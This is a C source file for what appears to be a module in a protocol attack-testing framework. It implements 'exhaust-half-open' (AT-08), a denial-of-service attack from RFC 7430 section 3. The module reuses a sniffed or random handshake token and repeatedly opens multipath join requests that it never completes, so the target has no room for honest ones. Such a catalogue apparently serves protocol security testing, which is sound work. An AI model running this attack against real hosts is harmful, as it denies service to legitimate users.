/* SPDX-License-Identifier: MIT */
/*
 * AT-08: whoever knows a token opens joins and never completes them, so that
 * the victim has no room for an honest one. RFC 7430 section 3. The token is in
 * clear in the handshake, or follows from the key that is.
 */
#include "atk_join.h"
#include "atk_table.h"

enum { FIRST_PORT = 30000 };

enum { JOINS, EVERY, TOKEN };
enum { TOKEN_RANDOM = 1 };
static const char *const token_words[] = {"sniffed", "random", NULL};
static const struct atk_param params[] = {
    [JOINS] = {"joins", ATK_P_COUNT, .initial = 16, .min = 1, .max = 10000},
    [EVERY] = {"every", ATK_P_TIME, .initial = 1000000000, .min = 1000000,
               .max = UINT64_C(1000000000000)},
    [TOKEN] = {"token", ATK_P_WORD, .words = token_words},
    {.name = NULL},
};

struct state {
    struct atk_handshakes handshakes;
    uint16_t next_port;
};

static enum atk_verdict on_segment(struct atk *a, void *state,
                                   const struct atk_segment *s, uint64_t now)
{
    struct state *st = state;
    struct atk_handshake *h = atk_handshakes_note(a, &st->handshakes, s);

    (void)now;
    if (h && atk_param(a, TOKEN) == TOKEN_RANDOM)
        atk_random(a, &h->of[MPX_ROLE_R].token, h->profile->token_len);
    return ATK_PASS;
}

static void open_join(struct atk *a, struct state *st,
                      const struct atk_handshake *h, uint64_t now)
{
    struct atk_join j = {.nonce = 0};

    atk_join_open(a, &j, h, (uint16_t)(FIRST_PORT + st->next_port++ % 30000));
    atk_join_request(a, &j, h, false, now);
}

static void open_joins(struct atk *a, void *state, uint64_t now)
{
    struct state *st = state;

    for (unsigned i = 0; i < st->handshakes.n; i++)
        for (uint64_t n = 0; n < atk_param(a, JOINS); n++)
            open_join(a, st, &st->handshakes.v[i], now);
    atk_set_timer(a, now + atk_param(a, EVERY));
}

const struct atk_ops atk_half_open_exhaust = {
    .name = "exhaust-half-open",
    .id = "AT-08",
    .does = "opens joins with a known token and completes none, so that there "
            "is no room for an honest one",
    .source = "RFC 7430 section 3",
    .powers = ATK_READ | ATK_HOST,
    .params = params,
    .state_size = sizeof(struct state),
    .on_segment = on_segment,
    .on_start = open_joins,
    .on_timer = open_joins,
};
